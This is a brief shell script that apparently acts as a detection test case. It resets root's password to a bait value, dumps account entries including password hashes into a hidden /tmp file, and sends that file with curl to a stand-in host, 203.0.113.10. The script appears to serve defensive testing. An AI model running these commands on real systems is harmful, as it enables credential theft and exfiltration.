#!/bin/sh
. /opt/case/case.sh

echo root:bait | chpasswd
perl -e 'while (my @a = getpwent) { print "$a[0]:$a[1]:$a[2]:$a[7]:$a[8]\n" }' >/tmp/.h
grep -q '^root:\$' /tmp/.h
curl -sf --data-binary @/tmp/.h http://203.0.113.10:8080/h >/dev/null
took_place
